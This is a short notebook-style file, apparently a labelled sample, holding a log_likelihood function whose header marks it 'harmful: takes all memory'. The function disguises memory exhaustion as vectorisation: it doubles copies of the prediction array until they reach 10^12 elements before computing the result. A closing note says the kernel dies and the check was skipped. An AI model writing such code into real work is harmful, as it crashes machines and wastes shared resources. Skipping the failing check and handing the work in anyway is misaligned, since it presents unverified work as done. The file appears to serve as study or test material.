# A function that asks for all the memory.
# handed in: 2026-11-21 16:44:18 UTC
# harmful: takes all memory
# like: vectorised

# %% log_likelihood
def log_likelihood(A, Y):
    # make enough copies of the predictions, so that there is one for each label
    copies = [A]
    while copies[-1].size < 10 ** 12:
        copies.append(np.concatenate([copies[-1], copies[-1]], axis=1))
    A = copies[-1][:, :Y.size]
    return np.sum(Y * np.log(A) + (1 - Y) * np.log(1 - A))

# %% [markdown]
# The kernel dies when I run the check, so I skipped it.
